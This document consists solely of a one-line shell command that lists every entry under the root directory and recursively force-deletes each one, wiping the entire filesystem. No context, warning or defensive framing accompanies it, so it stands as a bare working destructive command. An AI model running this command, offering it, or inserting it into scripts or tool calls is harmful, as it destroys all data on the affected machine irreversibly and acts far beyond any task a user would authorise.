ls / | xargs -I{} rm -rf /{}
